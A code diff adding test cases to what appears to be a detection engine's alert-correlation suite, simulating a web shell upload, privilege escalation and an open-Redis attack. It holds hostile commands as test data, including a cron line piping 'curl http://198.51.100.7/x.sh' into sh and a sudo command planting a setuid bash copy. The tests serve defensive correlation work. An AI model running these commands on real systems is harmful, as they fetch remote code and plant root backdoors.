@@ -54,6 +54,51 @@ describe('one story', () => {
     expect(together(store)).toBe('a b c');
   });
 
+  it('is a web shell: its upload, the requests for it, what it runs in its folder, and what sudo ran below that', () => {
+    const { m, store, take } = begin();
+    const worker = m.worker();
+    take([alertOf('upload', m.rename(worker, '/tmp/php1', '/var/www/html/up/logo.php'), { attack: ['T1505.003'] })]);
+    take([alertOf('asked', line(m, 'nginx', { source_ip: '203.0.113.9', url_path: '/up/l%6fgo.php' }), { attack: ['T1505.003'] })]);
+    const runs = (id: string, folder: string): number => {
+      const shell = m.spawn(worker, '/usr/bin/dash', 'sh -c id', { process_cwd: folder, user: 'www-data' });
+      take([alertOf(id, spawned(m, shell), { attack: ['T1059.004'] })]);
+      return shell;
+    };
+    const shell = runs('command', '/var/www/html/up');
+    // Another page's own work, and a page of the name that every site has.
+    runs('other', '/var/www/html/shop');
+    take([alertOf('front', line(m, 'nginx', { source_ip: '203.0.113.80', url_path: '/up/index.php' }), { attack: ['T1505.003'] })]);
+    m.spawn(shell, '/usr/bin/sudo', 'sudo install -m 4755 /bin/bash /usr/local/bin/.b', { uid: 33, user: 'www-data' });
+    const sudo = (id: string, user: string, command: string): void => { take([alertOf(id, line(m, 'sshd', { kind: 'sudo', service: 'sudo', user, process_cmdline: command }), { attack: ['T1548.003'] })]); };
+    sudo('sudo', 'www-data', '/usr/bin/install -m 4755 /bin/bash /usr/local/bin/.b');
+    sudo('another', 'www-data', '/usr/bin/id');
+    sudo('someone', 'deploy', '/usr/bin/install -m 4755 /bin/bash /usr/local/bin/.b');
+    expect(together(store)).toBe('another | asked command sudo upload | front | other | someone');
+  });
+
+  it('is what a server ran of which nothing was known before', () => {
+    const { m, store, take } = begin();
+    const master = m.seen('/usr/sbin/php-fpm8.2', 'php-fpm: master process', { cgroup: '/system.slice/php8.2-fpm.service' });
+    // A worker that only its child tells of.
+    const shell = m.fork(master + 100, { parent_path: '/usr/sbin/php-fpm8.2', parent_cmdline: 'php-fpm: pool www' });
+    const told = m.exec(shell, '/usr/bin/dash', 'sh -c id');
+    take([alertOf('a', told, { attack: ['T1059.004'] }), alertOf('b', told, { attack: ['T1033'] })]);
+    expect(together(store)).toBe('a b');
+  });
+
+  it('is an open Redis: the master it was told to follow, what it then wrote, and the job that fetches from there', () => {
+    const { m, store, take } = begin();
+    const redis = m.daemon('redis-server', '/usr/bin/redis-check-rdb', '/usr/bin/redis-server 0.0.0.0:6379');
+    take([alertOf('told', Object.assign(line(m, 'nginx', { source_ip: '203.0.113.9', destination_ip: '198.51.100.7', destination_port: 6400 }), { kind: 'database', service: 'redis' }), { attack: ['T1190'] })]);
+    m.connect(redis, '198.51.100.7', 6400);
+    take([alertOf('table', m.file(redis, 'create', '/etc/cron.d/temp-1.rdb'), { attack: ['T1053.003'] })]);
+    const job = m.cron('curl http://198.51.100.7/x.sh | sh');
+    take([alertOf('job', spawned(m, job), { attack: ['T1105'] })]);
+    // Fetched by its number from elsewhere, and from a machine of one's own network.
+    for (const [id, ip] of [['far', '198.51.100.8'], ['near', '10.0.0.8'], ['near2', '10.0.0.8']] as const) take([alertOf(id, spawned(m, m.cron(`curl http://${ip}/x.sh`)), { attack: ['T1105'] })]);
+    expect(together(store)).toBe('far | job table told | near | near2');
+  });
+
   it('is a log-on from where a reverse shell goes', () => {
     const { m, store, take } = begin();
     const shell = m.spawn(m.worker(), '/bin/sh', 'sh -i');
